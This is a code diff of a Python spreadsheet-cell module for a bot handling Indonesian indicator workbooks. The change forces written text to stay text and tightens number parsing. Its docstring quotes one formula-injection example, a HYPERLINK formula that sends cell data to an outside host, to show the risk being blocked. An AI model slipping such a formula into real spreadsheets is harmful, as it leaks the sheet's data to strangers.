@@ -1,5 +1,5 @@
-"""Reading the cells of a workbook a person filled in: the master indicator sheet and the
-per-bidang format a Kabid sends back both come through here.
+"""The cells of a workbook, both ways: every cell the bot writes, and reading the ones a person
+filled in (the master indicator sheet and the per-bidang format a Kabid sends back).
 
 openpyxl gives a cell's value in whatever type the file chose (a number typed as text, a percent
 cell, a date Excel made of "1.5"); these helpers turn it into what the person meant or say, in
@@ -12,9 +12,11 @@ from datetime import date, datetime, time, timedelta
 from decimal import Decimal
 from typing import Final
 
+from openpyxl.cell.cell import Cell as SheetCell
 from openpyxl.cell.read_only import EmptyCell, ReadOnlyCell
+from openpyxl.worksheet.worksheet import Worksheet
 
-from bot.numbers import parse_number
+from bot.numbers import check_range, parse_number
 
 Cell = tuple[object, str]
 """A cell as read: its value (any type the file chose) and its number format."""
@@ -24,6 +26,21 @@ EMPTY: Final[Cell] = (None, "")
 
 BLANK_MARKS: Final = frozenset({"", "-", "–", "—"})
 """Texts that mean "nothing here": offices often type a dash for a quarter without a target."""
+
+
+def write_cell(sheet: Worksheet, row: int, column: int, value: object) -> SheetCell:
+    """Puts `value` in a cell; every cell the bot writes goes through here.
+
+    A text is always stored as text, exactly as typed. openpyxl would store a keterangan or a
+    name starting with "=" as a live formula (and "#N/A" as an error), which Excel then runs:
+    `=HYPERLINK("http://x/?"&A1,"Klik")` would send the sheet's data to a stranger's server.
+    The bot never writes a formula of its own, so no text needs to be one.
+    """
+    cell = sheet.cell(row, column)
+    cell.value = value  # type: ignore[assignment]
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
 
 
 def read_cell(cell: ReadOnlyCell | EmptyCell) -> Cell:
@@ -41,7 +58,8 @@ def cell_decimal(value: object, number_format: str) -> Decimal | None:
     Text is read as `bot.numbers.parse_number` reads a typed number (Indonesian or international
     separators); a cell formatted as percent counts as it shows (95 % is 95); a dash is blank.
 
-    Raises ValueError with an Indonesian message for a cell that holds no number.
+    Raises ValueError with an Indonesian message for a cell that holds no number, or one
+    outside the range of a typed number (`bot.numbers.check_range`).
     """
     if isinstance(value, str):
         written = value.strip()
@@ -59,15 +77,16 @@ def cell_decimal(value: object, number_format: str) -> Decimal | None:
     elif isinstance(value, float):
         if not math.isfinite(value):
             raise ValueError("bukan angka yang sah")
-        # repr gives the shortest text that reads back as this float, which is what was typed:
-        # Decimal(95.5) would be exact but Decimal(0.1) would carry binary noise.
-        number = Decimal(int(value)) if value.is_integer() else Decimal(repr(value))
+        # Excel keeps 15 significant digits of what was typed; the double's 16th and 17th are
+        # binary noise (0.1 + 0.2 is 0.30000000000000004, 1E40 is 1000…0752 as an integer).
+        number = Decimal(format(value, ".15g"))
     else:
         raise ValueError("bukan angka")
     if _shows_percent(number_format):
-        scaled = number.scaleb(2)
-        return scaled.quantize(Decimal(1)) if scaled.as_tuple().exponent > 0 else scaled
-    return number
+        number = number.scaleb(2)
+    number = check_range(number)
+    # A percent cell of 1 scales to 1E+2, which is shown and stored as 100.
+    return number.quantize(Decimal(1)) if number.as_tuple().exponent > 0 else number
 
 
 def _shows_percent(number_format: str) -> bool:
